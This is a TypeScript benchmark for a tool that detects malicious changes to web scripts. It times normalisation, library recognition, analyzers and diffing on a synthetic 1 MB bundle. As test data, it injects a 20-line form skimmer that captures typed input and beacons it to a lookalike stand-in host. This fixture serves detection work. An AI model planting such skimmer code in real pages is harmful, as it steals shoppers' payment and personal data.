// Analysis benchmark: a 1 MB minified script with a 20-line change, through every step an alert on it takes.

import { runAnalyzers } from '../src/detect/analyzers/run-analyzers.js';
import { diffHunks } from '../src/evidence/diff.js';
import { sha256Hex } from '../src/plan/fingerprint.js';
import { identifyLibrary } from '../src/detect/intel/libraries.js';
import { loadIntel } from '../src/run/load-intel.js';
import { beautify, normalizeCode } from '../src/plan/normalize.js';

function bundle(): [string, string] {
  let code = '';
  for (let i = 0; code.length < 1_000_000; i++) code += `function m${i}(a,b){var c=a*${i}+b;if(c>${i}){return c}return b};`;
  const skimmer = Array.from({ length: 20 }, (_, i) => `document.forms[0].addEventListener("input",function(e){window.__k${i}=(window.__k${i}||"")+e.target.value});`).join('')
    + 'navigator.sendBeacon("https://shop-cdn-assets.example/c",JSON.stringify(window.__k0));';
  const middle = code.indexOf('function m5000(');
  return [code, code.slice(0, middle) + skimmer + code.slice(middle)];
}

const intel = loadIntel({ libraries: [], knownBadHosts: [] });
const [oldCode, newCode] = bundle();
const oldNormalized = sha256Hex(normalizeCode(oldCode).text);
const steps = ['normalise', 'library', 'analyzers', 'beautify', 'diff', 'total'] as const;
const runs: Record<(typeof steps)[number], number[]> = { normalise: [], library: [], analyzers: [], beautify: [], diff: [], total: [] };
for (let i = 0; i < 7; i++) {
  const t0 = performance.now();
  // 1. The raw hash differs: is it only volatile values? (the old version's normalised hash is stored)
  const masked = sha256Hex(normalizeCode(newCode).text) === oldNormalized;
  const t1 = performance.now();
  // 2. What library is the new body?
  const newLibrary = identifyLibrary(intel.libraries, { url: 'https://shop.example/bundle.min.js', body: newCode });
  const t2 = performance.now();
  // 3. What does the new code do that the old did not?
  const findings = runAnalyzers({
    oldCode, newCode, url: 'https://shop.example/bundle.min.js', pageHost: 'shop.example', knownHosts: [], paymentPage: true,
    oldLibrary: null, newLibrary, knownBad: intel.knownBad,
  });
  const t3 = performance.now();
  // 4. The readable diff the dashboard shows.
  const a = beautify(oldCode);
  const b = beautify(newCode);
  const t4 = performance.now();
  const hunks = diffHunks(a, b);
  const t5 = performance.now();
  [t1 - t0, t2 - t1, t3 - t2, t4 - t3, t5 - t4, t5 - t0].forEach((ms, k) => runs[steps[k]!].push(ms));
  if (i === 0) {
    const added = hunks.flatMap((h) => h.lines).filter((l) => l.kind === 'add').length;
    console.log(`1 MB bundle, 20-line change: masked=${masked}, ${hunks.length} hunk(s) with ${added} added lines, ${findings.length} findings, worst: ${findings[0]?.severity} ${findings[0]?.title}`);
  }
}
const median = (xs: number[]) => [...xs].sort((x, y) => x - y)[Math.floor(xs.length / 2)]!;
for (const step of steps) console.log(`${step.padEnd(10)} median ${median(runs[step]).toFixed(0)} ms`);
console.log('target: total under 500 ms (normalised compare, library recognition, analyzers, beautify of both versions, diff)');
